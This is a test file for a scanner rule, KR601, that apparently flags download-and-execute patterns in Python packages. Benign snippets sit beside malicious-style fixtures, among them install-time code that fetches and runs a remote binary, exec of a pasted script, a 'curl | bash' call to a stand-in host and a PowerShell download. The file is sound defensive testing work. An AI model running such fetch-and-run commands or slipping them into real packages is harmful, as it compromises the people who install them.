import { describe, it } from 'vitest';
import { testRule } from '../../helpers/rule-tester.js';

/**
 * The malicious-package indicator rules one by one, on malicious-style and benign
 * snippets (whole packages are in test/malicious/packages.test.ts).
 */

const SETUP = { path: 'pkg/setup.py' };
const INIT = { path: 'pkg/mod/__init__.py', packageName: 'mod' };

describe("malicious-package indicators", () => {
  it('KR601 download-and-execute', () =>
    testRule('KR601', {
      valid: [
        // Download of data, verified, never run.
        'import urllib.request, hashlib\ndef load():\n    data = urllib.request.urlopen(URL).read()\n    assert hashlib.sha256(data).hexdigest() == SHA\n    return data',
        // Download then extract with tar: an honest build step.
        'import subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve(URL, "src.tar.gz")\n    subprocess.check_call(["tar", "xzf", "src.tar.gz"])',
        // A process with no download in the same function.
        'import subprocess, urllib.request\ndef a():\n    urllib.request.urlretrieve(URL, "x.csv")\ndef b():\n    subprocess.run(["ls"])',
      ],
      invalid: [
        { code: 'import os, urllib.request\nurllib.request.urlretrieve("http://203.0.113.5/x", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")', errors: [{ line: 3, column: 1, message: 'A file downloaded at line 2 is made executable at install time.' }], severity: 'critical', options: SETUP },
        { code: 'import requests, subprocess\ndef update():\n    r = requests.get(URL, timeout=5)\n    with open("u.exe", "wb") as f:\n        f.write(r.content)\n    subprocess.Popen(["u.exe"])', lines: [6], severity: 'high' },
        { code: 'from urllib.request import urlopen\nexec(urlopen("https://paste.ee/r/x").read())', lines: [2], severity: 'critical', options: INIT },
        { code: 'import os\nos.system("curl -s http://x.example/i.sh | bash")', lines: [2], options: SETUP },
        { code: 'import subprocess\nsubprocess.call(["powershell", "-c", "iwr http://x/a.exe -OutFile a.exe"])', lines: [2], options: SETUP },
      ],
    }));
});
